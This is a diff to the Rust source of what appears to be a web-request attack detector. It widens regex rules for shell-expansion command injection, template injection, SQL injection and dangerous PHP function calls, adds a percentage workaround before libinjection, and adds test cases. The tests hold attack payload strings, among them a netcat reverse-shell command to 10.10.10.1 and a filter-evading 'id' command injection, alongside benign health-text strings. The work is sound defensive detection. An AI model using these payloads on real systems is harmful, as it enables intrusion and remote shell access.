@@ -306,8 +306,9 @@ const VALUE_RULES: &[Rule] = &[
     Rule {
         id: "rce-160",
         class: Class::Rce,
-        // Shell expansions: `${cmd}`, `${PATH#…}`, `$(( … ))`, process substitution `<(cmd)`.
-        pattern: r"\$\{[a-z_][a-z0-9_]*(?:(?:[#%/^,~]|:-)[^}]*)?\}|\$\(\(|[<>]\(\s*[a-z]",
+        // Shell expansions: `${cmd}`, `${PATH#…}`, `${PATH:0:1}`, `$(( … ))`, process
+        // substitution `<(cmd)`.
+        pattern: r"\$\{[a-z_][a-z0-9_]*(?:(?:[#%/^,~]|:-|:\d)[^}]*)?\}|\$\(\(|[<>]\(\s*[a-z]",
     },
     Rule {
         id: "rce-170",
@@ -325,7 +326,7 @@ const VALUE_RULES: &[Rule] = &[
     Rule {
         id: "ssti-100",
         class: Class::Ssti,
-        pattern: r"\{\{[^}]*(?:\d\s*[*+/-]\s*\d|__|\bconfig\b|\bself\b|\brequest\b|\.\s*class\b|\|)[^}]*\}\}|\{%[^%]*%\}|<%[=\s].*%>|\$\{\s*\d+\s*[*+/-]\s*\d+\s*\}|#\{\s*\d+\s*[*+/-]\s*\d+\s*\}",
+        pattern: r"\{\{[^}]*(?:\d\s*[*+/-]\s*\d|__|\bconfig\b|\bself\b|\brequest\b|\.\s*class\b|\|)[^}]*\}\}|\{%[^%]*%\}|<%[=\s].*%>|\$\{\s*\d+\s*[*+/-]\s*\d+\s*\}|[#*]\{\s*\d+\s*[*+/-]\s*\d+\s*\}",
     },
     Rule {
         id: "php-100",
@@ -388,7 +389,7 @@ const VALUE_RULES: &[Rule] = &[
     Rule {
         id: "sqli-110",
         class: Class::Sqli,
-        pattern: r"\bunion\b[\s+(/*!0-9]+(?:all|distinct)?[\s+(/*!]*select\b|\binto[\s+]+(?:out|dump)file\b|\b(?:sleep|benchmark|pg_sleep)\s*\(\s*\d|\bwaitfor[\s+]+delay\b|information_schema|\bload_file\s*\(|@@version|\bversion\s*\(\s*\)|;\s*(?:drop|shutdown|truncate)\s+\w|\b(?:or|and)[\s+]+(\d+)[\s+]*=[\s+]*\d+|'[\s+]*(?:or|and)[\s+]*'|\blimit[\s+]+\d+\s*,\s*\d+\s*(?:--|#|/\*)",
+        pattern: r"\bunion\b[\s+(/*!0-9]+(?:all|distinct)?[\s+(/*!]*select\b|\binto[\s+]+(?:out|dump)file\b|\b(?:sleep|benchmark|pg_sleep)\s*\(\s*\d|\b(?:or|and)[\s+]+glob\s*\(|\bwaitfor[\s+]+delay\b|information_schema|\bload_file\s*\(|@@version|\bversion\s*\(\s*\)|;\s*(?:drop|shutdown|truncate)\s+\w|\b(?:or|and)[\s+]+(\d+)[\s+]*=[\s+]*\d+|'[\s+]*(?:or|and)[\s+]*'|\blimit[\s+]+\d+\s*,\s*\d+\s*(?:--|#|/\*)",
     },
     Rule {
         id: "rce-130",
@@ -582,7 +583,9 @@ const CALL_RULES: &[Rule] = &[
         class: Class::Php,
         // PHP functions a request has no business naming, called — names with no meaning
         // in prose (`file(`, `mail(`, `copy(` are left out) — comments allowed before `(`.
-        pattern: r"(?:gzinflate|gzuncompress|gzdecode|str_rot13|base64_decode|convert_uudecode|call_user_func(?:_array)?|fsockopen)\s*(?:/\*[\s\S]*?\*/\s*)*\(|\b(?:zlib_decode|bzdecompress|convert_uudecode|hex2bin|file_exists|is_file|is_dir|is_readable|is_writable|is_writeable|fileperms|fileowner|filesize|fpassthru|fread|fgets|fwrite|fputs|glob|scandir|opendir|readdir|unlink|rmdir|mkdir|chmod|chown|chgrp|symlink|readlink|tempnam|tmpfile|move_uploaded_file|highlight_file|show_source|parse_ini_file|php_uname|phpversion|getenv|putenv|ini_set|ini_get|ini_restore|ini_alter|set_time_limit|ignore_user_abort|error_reporting|get_current_user|getmypid|getmyuid|gethostbyname|gethostbynamel|gethostname|fsockopen|pfsockopen|stream_socket_client|stream_get_contents|socket_create|curl_init|curl_exec|curl_multi_exec|setcookie|session_start|parse_str|array_map|array_filter|array_walk|array_walk_recursive|usort|uasort|uksort|func_get_args|assert_options|ob_start|register_shutdown_function|register_tick_function|pcntl_exec|pcntl_fork|posix_kill|posix_setuid|posix_getpwuid|posix_uname|escapeshellarg|escapeshellcmd|proc_nice|proc_terminate|proc_get_status|apache_child_terminate|get_defined_vars|get_defined_functions|function_exists|method_exists|class_exists|substr|strrev|str_replace|preg_match|preg_replace_callback|var_dump|print_r|var_export|serialize|mb_ereg_replace|mb_eregi_replace|simplexml_load_string|libxml_disable_entity_loader|ftp_connect|ssh2_connect|ssh2_exec|mysql_query|mysqli_query|pg_query|ldap_connect|exif_read_data|imagecreatefromstring|xmlrpc_decode|yaml_parse|zend_[a-z_]+|runkit_[a-z_]+|dl|intval|floatval|strval|boolval|settype|gettype|is_array|is_string|is_numeric|is_callable|is_object|strip_tags|htmlspecialchars|addslashes|stripslashes|sprintf|vsprintf|fprintf|printf|unpack|crypt|checkdate|filegroup|filemtime|fileatime|filectime|fileinode|date_add|date_sub|date_create|strtotime|json_decode|ucfirst|lcfirst|nl2br|strtolower|strtoupper|str_pad|str_split|implode|explode|in_array)\s*(?:/\*[\s\S]*?\*/\s*|//[^\n]*\n\s*|#[^\n]*\n\s*)*\(",
+        // Names that end words of prose (`mg/dL (fasting)`, `glob (the ball)`) only with the
+        // parenthesis right after them.
+        pattern: r"(?:gzinflate|gzuncompress|gzdecode|str_rot13|base64_decode|convert_uudecode|call_user_func(?:_array)?|fsockopen)\s*(?:/\*[\s\S]*?\*/\s*)*\(|\b(?:zlib_decode|bzdecompress|convert_uudecode|hex2bin|file_exists|is_file|is_dir|is_readable|is_writable|is_writeable|fileperms|fileowner|filesize|fpassthru|fread|fgets|fwrite|fputs|scandir|opendir|readdir|unlink|rmdir|mkdir|chmod|chown|chgrp|symlink|readlink|tempnam|tmpfile|move_uploaded_file|highlight_file|show_source|parse_ini_file|php_uname|phpversion|getenv|putenv|ini_set|ini_get|ini_restore|ini_alter|set_time_limit|ignore_user_abort|error_reporting|get_current_user|getmypid|getmyuid|gethostbyname|gethostbynamel|gethostname|fsockopen|pfsockopen|stream_socket_client|stream_get_contents|socket_create|curl_init|curl_exec|curl_multi_exec|setcookie|session_start|parse_str|array_map|array_filter|array_walk|array_walk_recursive|usort|uasort|uksort|func_get_args|assert_options|ob_start|register_shutdown_function|register_tick_function|pcntl_exec|pcntl_fork|posix_kill|posix_setuid|posix_getpwuid|posix_uname|escapeshellarg|escapeshellcmd|proc_nice|proc_terminate|proc_get_status|apache_child_terminate|get_defined_vars|get_defined_functions|function_exists|method_exists|class_exists|substr|strrev|str_replace|preg_match|preg_replace_callback|var_dump|print_r|var_export|serialize|mb_ereg_replace|mb_eregi_replace|simplexml_load_string|libxml_disable_entity_loader|ftp_connect|ssh2_connect|ssh2_exec|mysql_query|mysqli_query|pg_query|ldap_connect|exif_read_data|imagecreatefromstring|xmlrpc_decode|yaml_parse|zend_[a-z_]+|runkit_[a-z_]+|intval|floatval|strval|boolval|settype|gettype|is_array|is_string|is_numeric|is_callable|is_object|strip_tags|htmlspecialchars|addslashes|stripslashes|sprintf|vsprintf|fprintf|printf|checkdate|filegroup|filemtime|fileatime|filectime|fileinode|date_add|date_sub|date_create|strtotime|json_decode|ucfirst|lcfirst|nl2br|strtolower|strtoupper|str_pad|str_split|implode|explode|in_array)\s*(?:/\*[\s\S]*?\*/\s*|//[^\n]*\n\s*|#[^\n]*\n\s*)*\(|\b(?:dl|glob|crypt|unpack)\(",
     },
     Rule {
         id: "php-190",
@@ -1693,7 +1696,29 @@ fn libinjection_sqli(decoded: &str) -> bool {
             (b'-', Some(b'-')) | (b'/', Some(b'*'))
         )
     });
-    breaks_out && libinjectionrs::detect_sqli(bytes).is_injection()
+    if !breaks_out {
+        return false;
+    }
+    // A percentage (`HbA1c 5.6% (normal)`, `pain 50% (severe)`) reads to libinjection as the
+    // modulo operator before a parenthesis, which is its fingerprint of an injected
+    // expression. A `%` after a digit and before a space or the end is a unit, not an
+    // operator (SQL's `a % b` has a space before it, `1%(select…)` none after): read as
+    // such, it is left out of what libinjection sees.
+    let percent = |at: usize| {
+        at > 0
+            && bytes[at - 1].is_ascii_digit()
+            && bytes.get(at + 1).is_none_or(u8::is_ascii_whitespace)
+    };
+    if memchr::memchr_iter(b'%', bytes).any(percent) {
+        let without: Vec<u8> = bytes
+            .iter()
+            .enumerate()
+            .filter(|&(at, &b)| b != b'%' || !percent(at))
+            .map(|(_, &b)| b)
+            .collect();
+        return libinjectionrs::detect_sqli(&without).is_injection();
+    }
+    libinjectionrs::detect_sqli(bytes).is_injection()
 }
 
 /// Words hidden in base64 (a serialized payload in a parameter, a Node.js function in a
@@ -2281,6 +2306,11 @@ mod tests {
         ("{,echo,#test}", "rce"),
         ("{,$'whoami',}", "rce"),
         ("{/?s?/?i?/c?t,}", "rce"),
+        ("; ${PATH:0:1}bin${PATH:0:1}id", "rce"),
+        ("*{7*7}", "ssti"),
+        ("x = 1%(select 1)", "sqli"),
+        ("dl('x.so')", "php"),
+        ("admin\\' or glob (id,id);", "sqli"),
         ("foo=\";\\n.shell nc 10.10.10.1 6666 -e sh", "rce"),
         ("() {", "rce"),
         ("1;.sh whoami", "rce"),
@@ -2851,6 +2881,11 @@ mod tests {
             // Near the shapes of rce-235 … rce-240 and the widened command rules: prose
             // puts a space after `;`, mail words in text are not alone on the value's
             // first line, and a variable in text is a price or a template.
+            // Health text that libinjection and php-130 read as code: a percentage before a
+            // parenthesis, a unit before one.
+            "HbA1c 5.6% (normal)",
+            "pain 50% (severe), improving",
+            "blood glucose 110 mg/dL (fasting)",
             "Data\r\nThe readings of the week",
             "notes:\r\nHELP desk called twice today",
             "\nDATA",
